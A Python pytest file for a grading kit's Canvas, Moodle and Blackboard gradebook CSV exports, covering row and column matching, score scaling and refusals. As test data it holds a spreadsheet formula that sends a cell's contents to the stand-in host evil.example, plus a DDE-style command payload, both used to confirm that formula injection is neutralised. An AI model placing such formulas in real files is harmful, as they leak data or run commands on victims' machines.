"""Are grades written in the layouts the Canvas, Moodle and Blackboard gradebook imports take, each on its own student's row,
in the assignment's own column and on that column's own scale, the LMS's own cells as it wrote them, and nothing the kit
writes that a spreadsheet would run as a formula?"""
from __future__ import annotations

import csv
import io
import re

import pytest

from support import lms_exports
from grader.lms.grade_sheets import Grade, NoMaximum, NoSuchColumn, blackboard_csv, canvas_csv, moodle_csv
from grader.lms.roster import Roster

pytestmark = pytest.mark.unit

GRADES = [Grade("2026001", "王, 小明", 17.5, 20.0), Grade("2026004", "Chen, Jing", None, 20.0),
          Grade("2026777", "Not, Enrolled", 20.0, 20.0)]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_moodle_worksheet_comes_back_with_grades_on_the_participants_rows(tmp_path):
    """Does each worksheet row keep its Identifier and columns, with Grade filled for the student it maps to,
    and is a student the worksheet lacks returned apart rather than written?"""
    roster = Roster.read(lms_exports.write_csv(tmp_path / "worksheet.csv", lms_exports.MOODLE_WORKSHEET))
    text, unplaced, _ = moodle_csv(GRADES, roster)
    written = rows(text)
    assert list(written[0]) == lms_exports.MOODLE_WORKSHEET[0]
    assert [(r["Identifier"], r["Grade"]) for r in written] == [("Participant 1001", "17.5"), ("Participant 1004", "")]
    assert unplaced == ["2026777"]


def test_canvas_import_uses_the_roster_columns_and_the_assignment_column(tmp_path):
    """Is the score written under the export's own `attention (777)` column, on the row with the student's Canvas ID?"""
    roster = Roster.read(lms_exports.write_csv(tmp_path / "canvas.csv", [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "attention (777)", "quiz (778)"],
        ["    Points Possible", "", "", "", "", "20.00", "5.00"],
        ["Wang, Xiaoming", "1001", "2026001", "wxm", "LLM 101", "", "4"],
        ["Chen, Jing", "1004", "2026004", "cj", "LLM 101", "", "5"]]))
    text, unplaced, _ = canvas_csv(GRADES, "attention", roster)
    written = rows(text)[1:]  # after the Points Possible row
    assert [(r["ID"], r["attention (777)"]) for r in written] == [("1001", "17.5"), ("1004", "")]
    assert unplaced == ["2026777"]


def test_without_roster_the_lms_ids_are_the_student_ids():
    """Without a roster, is the student id (the LMS's own id, as the collector made it) the row's key?"""
    canvas = rows(canvas_csv([Grade("1001", "Wang, Xiaoming", 3.0, 20.0)], "attention").text)
    assert (canvas[0]["ID"], canvas[0]["Student"], canvas[0]["attention"]) == ("1001", "Wang, Xiaoming", "3")
    moodle = rows(moodle_csv([Grade("1001", "王, 小明", 3.0, 20.0)]).text)
    assert (moodle[0]["Identifier"], moodle[0]["Grade"], moodle[0]["Maximum Grade"]) == ("Participant 1001", "3", "20")


# How each LMS reads an import back, as its documentation describes it (the tests read the CSV the same way):
# Canvas matches a row by `ID` and a grade column by the assignment id in brackets at the end of its header; a header
# without one creates a new assignment. Moodle's worksheet upload matches `Identifier` (`Participant <id>`) and reads
# `Grade`. Blackboard's Grade Centre upload matches `Username` and updates the column whose id follows `|`.
CANVAS_ID_IN_HEADER = re.compile(r"\((\d+)\)\s*$")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def canvas_import(text: str) -> tuple[dict[str, dict[str, str]], list[str]]:
    """(Canvas user id -> {assignment id: grade}, the headers Canvas would make new assignments of)."""
    table = [row for row in rows(text) if row["Student"].strip() != "Points Possible"]  # Canvas skips that row
    known = [*lms_exports.CANVAS_EXPORT_IDENTITY, "Notes"]
    new = [name for name in table[0] if name not in known and not CANVAS_ID_IN_HEADER.search(name)]
    grades = {row["ID"]: {CANVAS_ID_IN_HEADER.search(name)[1]: value for name, value in row.items()
                          if CANVAS_ID_IN_HEADER.search(name)} for row in table}
    return grades, new


def canvas_roster(tmp_path, student_name: str = "Wang, Xiaoming") -> Roster:
    return Roster.read(lms_exports.write_csv(tmp_path / "canvas.csv", [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Attention (2291)", "Quiz 1 (2292)"],
        ["    Points Possible", "", "", "", "", "20.00", "5.00"],
        [student_name, "1001", "2026001", "wxm", "LLM 101", "", "4"],
        ["Chen, Jing", "1004", "2026004", "cj", "LLM 101", "", "5"]]))


def test_canvas_grades_land_in_the_assignments_column_whatever_its_case_and_id(tmp_path):
    """nbgrader's assignment `attention` against Canvas's `Attention (2291)`: does every grade land in column 2291,
    with no new column Canvas would import as a new assignment, and the other assignment's grades unchanged?"""
    grades, new = canvas_import(canvas_csv(GRADES, "attention", canvas_roster(tmp_path)).text)
    assert new == []
    assert grades == {"1001": {"2291": "17.5"}, "1004": {"2291": ""}}


def test_no_matching_column_is_refused_with_the_rosters_columns_listed(tmp_path):
    """An assignment the Canvas export has no column for: is the export refused, naming the columns it has, rather
    than a new column added?"""
    with pytest.raises(NoSuchColumn, match=r"no column.*'Attention \(2291\)', 'Quiz 1 \(2292\)'"):
        canvas_csv(GRADES, "attention-v2", canvas_roster(tmp_path))


def test_a_formula_like_name_the_kit_writes_is_neutralised_and_the_import_still_matches():
    """Without a roster the names come from the gradebook, not from the LMS: is a name written like a spreadsheet
    formula written as text (`'=…`) in all three sheets, while each LMS still finds the row by its key and the grade?"""
    canvas_text = canvas_csv([Grade("1001", FORMULA, 17.5, 20.0)], "Attention (2291)").text
    assert rows(canvas_text)[0]["Student"] == "'" + FORMULA
    assert canvas_import(canvas_text)[0]["1001"]["2291"] == "17.5"
    moodle_text = moodle_csv([Grade("1001", "@SUM(1+1)*cmd|' /C calc'!A0", 17.5, 20.0)]).text
    moodle_rows = {row["Identifier"]: row for row in rows(moodle_text)}
    assert moodle_rows["Participant 1001"]["Full name"].startswith("'@")
    assert moodle_rows["Participant 1001"]["Grade"] == "17.5"
    blackboard_text = blackboard_csv([Grade("li_na", "-2+3, +cmd", 20.0, 20.0)], "Attention [Total Pts: 20 Score] |4401").text
    written = rows(blackboard_text)[0]
    assert (written["Last Name"], written["First Name"]) == ("'-2+3", "'+cmd")
    assert (written["Username"], written["Attention [Total Pts: 20 Score] |4401"]) == ("li_na", "20")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for text in (canvas_text, moodle_text, blackboard_text)
                   for row in csv.reader(io.StringIO(text)) for cell in row)


def test_the_lms_own_cells_come_back_as_the_lms_wrote_them(tmp_path):
    """Moodle's own `-` in "Last modified (grade)", and a name the LMS itself exported: is each cell of the roster
    written back exactly as in the LMS's file (the instructor already holds that text), only the grade filled in?"""
    worksheet = [row[:] for row in lms_exports.MOODLE_WORKSHEET]
    worksheet[1][1] = FORMULA
    written = rows(moodle_csv(GRADES, Roster.read(lms_exports.write_csv(tmp_path / "w.csv", worksheet))).text)
    by_id = {row["Identifier"]: row for row in written}
    assert by_id["Participant 1001"]["Last modified (grade)"] == "-"
    assert by_id["Participant 1001"]["Full name"] == FORMULA
    assert [cell for cell in by_id["Participant 1004"].values()] == [
        *worksheet[4][:5], "", *worksheet[4][6:]]


def test_canvas_sheet_holds_only_the_identifying_columns_and_the_assignments(tmp_path):
    """A Canvas export with another assignment, Canvas's read-only totals and an Integration ID: does the sheet keep the
    identifying columns (in the export's order) and the assignment's column only, with the Points Possible row as Canvas
    wrote it, so an import cannot revert a later edit of another column?"""
    roster = Roster.read(lms_exports.write_csv(tmp_path / "canvas.csv", [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Integration ID", "Section", "Quiz 1 (2290)", "Attention (2291)",
         "Current Points", "Final Score"],
        ["    Points Possible", "", "", "", "", "", "5.00", "20.00", "(read only)", "(read only)"],
        ["Wang, Xiaoming", "1001", "2026001", "wxm", "", "LLM 101", "4", "", "4.00", "20.0"]]))
    text = canvas_csv(GRADES, "attention", roster).text
    table = list(csv.reader(io.StringIO(text)))
    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Integration ID", "Section", "Attention (2291)"]
    assert table[1] == ["    Points Possible", "", "", "", "", "", "20.00"]
    assert table[2] == ["Wang, Xiaoming", "1001", "2026001", "wxm", "", "LLM 101", "17.5"]


def canvas_export(tmp_path, maximum: str) -> Roster:
    return Roster.read(lms_exports.write_csv(tmp_path / "canvas.csv", [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Attention (2291)"],
        ["    Points Possible", "", "", "", "", maximum],
        ["Wang, Xiaoming", "1001", "2026001", "wxm", "LLM 101", ""],
        ["Chen, Jing", "1004", "2026004", "cj", "LLM 101", ""]]))


def moodle_worksheet(tmp_path, maximum: str) -> Roster:
    worksheet = [row[:6] + [maximum] + row[7:] for row in lms_exports.MOODLE_WORKSHEET[1:]]
    return Roster.read(lms_exports.write_csv(tmp_path / "worksheet.csv", [lms_exports.MOODLE_WORKSHEET[0], *worksheet]))


def grade_centre(tmp_path, maximum: str) -> Roster:
    return Roster.read(lms_exports.write_csv(tmp_path / "gc.csv", [
        ["Last Name", "First Name", "Username", "Student ID", f"Attention [Total Pts: {maximum} Score] |4401"],
        ["Wang", "Xiaoming", "wxm", "2026001", ""], ["Chen", "Jing", "cj", "2026004", ""]]))


def written_grades(lms: str, tmp_path, maximum: str) -> dict[str, str]:
    """The course's student id -> the grade each LMS would import, for a 20/20 student and a 17.5/20 one, with the
    roster's column worth `maximum` as the LMS itself wrote it."""
    grades = [Grade("2026001", "Wang, Xiaoming", 20.0, 20.0), Grade("2026004", "Chen, Jing", 17.5, 20.0)]
    if lms == "canvas":
        imported = canvas_import(canvas_csv(grades, "attention", canvas_export(tmp_path, maximum)).text)[0]
        return {"2026001": imported["1001"]["2291"], "2026004": imported["1004"]["2291"]}
    if lms == "moodle":
        imported = {row["Identifier"]: row["Grade"] for row in rows(moodle_csv(grades, moodle_worksheet(tmp_path, maximum)).text)}
        return {"2026001": imported["Participant 1001"], "2026004": imported["Participant 1004"]}
    imported = blackboard_import(blackboard_csv(grades, "attention", grade_centre(tmp_path, maximum)).text)
    return {"2026001": imported["wxm"]["4401"], "2026004": imported["cj"]["4401"]}


@pytest.mark.parametrize("lms", ["moodle", "canvas", "blackboard"])
@pytest.mark.parametrize("maximum, full, seventeen_and_a_half", [("100.00", "100", "87.5"), ("20.00", "20", "17.5"),
                                                                 ("7", "7", "6.13")])
def test_grades_are_written_on_the_lms_columns_own_scale(tmp_path, lms, maximum, full, seventeen_and_a_half):
    """A column worth 100 (Moodle's default), 20 or 7 in the LMS's own export: is a 20/20 student written as the column's
    maximum and 17.5/20 in proportion (6.125 rounded half up to two decimals), where the import reads them?"""
    assert written_grades(lms, tmp_path, maximum) == {"2026001": full, "2026004": seventeen_and_a_half}


@pytest.mark.parametrize("lms", ["moodle", "canvas", "blackboard"])
@pytest.mark.parametrize("maximum", ["", "0", "0.00", "ten"])
def test_a_maximum_the_lms_file_lacks_or_that_is_zero_is_refused_naming_both(tmp_path, lms, maximum):
    """The roster's maximum empty, zero or no number: is nothing written, the refusal naming the LMS's value and the
    assignment's 20?"""
    with pytest.raises(NoMaximum, match=rf"maximum cannot be read: .*{re.escape(repr(maximum)) if maximum else ''}.*worth 20\b"):
        written_grades(lms, tmp_path, maximum)


def test_a_canvas_roster_without_its_points_possible_row_is_refused(tmp_path):
    """A hand-made Canvas roster without the Points Possible row: refused, saying where the maximum was looked for?"""
    roster = Roster.read(lms_exports.write_csv(tmp_path / "canvas.csv", [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Attention (2291)"],
        ["Wang, Xiaoming", "1001", "2026001", "wxm", "LLM 101", ""]]))
    with pytest.raises(NoMaximum, match="no Points Possible row.*worth 20"):
        canvas_csv(GRADES, "attention", roster)


def blackboard_import(text: str) -> dict[str, dict[str, str]]:
    """Username -> {column id: grade}, as the Grade Centre upload reads a file."""
    return {row["Username"]: {name.rsplit("|", 1)[1].strip(): value for name, value in row.items() if "|" in name}
            for row in rows(text)}


def test_blackboard_grade_centre_upload_fills_the_assignments_column(tmp_path):
    """With the Grade Centre's download as the roster (`Student ID` filled for one student, empty for the other),
    does each grade land under the `Attention … |4401` column id, on the right username, and a student without a
    column for the assignment get a refusal listing the columns?"""
    roster = Roster.read(lms_exports.write_csv(tmp_path / "gc.csv", [
        ["Last Name", "First Name", "Username", "Student ID", "Last Access", "Availability",
         "attention [Total Pts: 20 Score] |4401", "Quiz [Total Pts: 5 Score] |4402"],
        ["Li", "Na", "li_na", "2026001", "2026-11-30", "Available", "", "3"],
        ["Wang", "Na", "wang_na", "", "2026-11-30", "Available", "", "4"]]))
    grades = [Grade("2026001", "Li, Na", 18.0, 20.0), Grade("wang_na", "Wang, Na", 20.0, 20.0)]
    text, unplaced, _ = blackboard_csv(grades, "Attention", roster)
    assert unplaced == []
    assert blackboard_import(text) == {"li_na": {"4401": "18"}, "wang_na": {"4401": "20"}}
    with pytest.raises(NoSuchColumn, match=r"Quiz \[Total Pts: 5 Score\] \|4402"):
        blackboard_csv(grades, "Attention 2", roster)
    with pytest.raises(NoSuchColumn, match="column id|id after"):
        blackboard_csv(grades, "Attention")
